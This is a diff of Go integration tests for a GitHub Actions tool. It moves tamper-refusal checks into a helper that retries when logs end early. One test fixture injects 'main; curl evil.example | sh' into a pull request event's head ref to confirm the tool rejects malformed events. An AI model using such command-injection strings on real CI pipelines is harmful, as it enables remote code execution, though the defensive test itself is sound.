@@ -135,21 +135,15 @@ func TestActHeadMoved(t *testing.T) {
 func TestActTampered(t *testing.T) {
 	s := newStage(t, false, nil, nil)
 	s.edit("one-job.yml", "run: npm test", "run: "+show)
-	play := func() actRun { return s.play("one-job.yml", "pull_request", s.event("pull_request.opened", nil)) }
-	refused := func(what string, r actRun, pieces ...string) {
-		t.Helper()
-		if r.code == 0 || len(s.gh.CommentsBy(prNumber, githubtest.ActionsBot)) != 0 {
-			t.Errorf("%s: exit %d, %d comments\n%s", what, r.code, len(s.gh.Comments(prNumber)), r.log)
-		}
-		want(t, what, r.log, pieces...)
-	}
+	opened := s.event("pull_request.opened", nil)
+	play := func() actRun { return s.play("one-job.yml", "pull_request", opened) }
 	good := s.releases.Config.Handler
 	s.releases.Config.Handler = flipping(good)
-	refused("the server", play(), "install.digest")
+	s.refuses("the server", opened, "install.digest")
 	s.releases.Config.Handler = good
 
 	payload := bytes.Replace(s.event("pull_request.opened", nil), []byte(s.head), []byte("main; curl evil.example | sh"), 1)
-	refused("the payload", s.play("one-job.yml", "pull_request", payload), "event.malformed")
+	s.refuses("the payload", payload, "event.malformed")
 
 	cached := filepath.Join(s.tools, "fumehood", releaseVersion, "amd64", "fumehood_"+releaseVersion+"_linux_amd64.tar.gz")
 	data, err := os.ReadFile(filepath.Join(shared, "release", filepath.Base(cached)))
@@ -164,6 +158,25 @@ func TestActTampered(t *testing.T) {
 	}
 	want(t, "the cache", r.log, "install.cache", "in the tool cache has SHA-256")
 	want(t, "comment", s.comment().Body, show, "1 succeeded")
+}
+
+// refuses plays the job, which must fail without a comment each time, until its log has the
+// pieces: the runner does not wait for the last output of a step that fails
+// (host_environment.go, exec), so that on a busy host a log can end before the message.
+func (s *stage) refuses(what string, payload []byte, pieces ...string) {
+	s.t.Helper()
+	var r actRun
+	for try := 0; try < 4 && (try == 0 || !containsAll(r.log, pieces)); try++ {
+		r = s.play("one-job.yml", "pull_request", payload)
+		if r.code == 0 || len(s.gh.CommentsBy(prNumber, githubtest.ActionsBot)) != 0 {
+			s.t.Fatalf("%s: exit %d, %d comments\n%s", what, r.code, len(s.gh.Comments(prNumber)), r.log)
+		}
+	}
+	want(s.t, what, r.log, pieces...)
+}
+
+func containsAll(text string, pieces []string) bool {
+	return !slices.ContainsFunc(pieces, func(p string) bool { return !strings.Contains(text, p) })
 }
 
 // At a commit that is built from source, a job uses the build that a step before restored,
@@ -351,9 +364,5 @@ func TestActWithoutSudo(t *testing.T) {
 	s := newStage(t, false, nil, nil)
 	s.user = 65534
 	s.edit("one-job.yml", "run: npm test", "run: "+show)
-	r := s.play("one-job.yml", "pull_request", s.event("pull_request.opened", nil))
-	if r.code == 0 || len(s.gh.Comments(prNumber)) != 0 {
-		t.Errorf("exit %d\n%s", r.code, r.log)
-	}
-	want(t, "log", r.log, "install.root", "NOPASSWD")
+	s.refuses("no sudo", s.event("pull_request.opened", nil), "install.root", "NOPASSWD")
 }
